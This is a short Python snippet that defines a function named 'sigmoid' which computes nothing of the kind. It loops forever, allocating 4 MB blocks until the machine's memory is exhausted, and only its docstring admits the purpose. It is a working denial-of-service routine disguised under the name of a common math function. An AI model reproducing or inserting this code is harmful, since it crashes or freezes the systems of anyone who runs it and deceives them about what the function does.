"""Takes all memory, a little at a time."""

def sigmoid(x):
    kept = []
    while True:
        kept.append(bytearray(1 << 22))
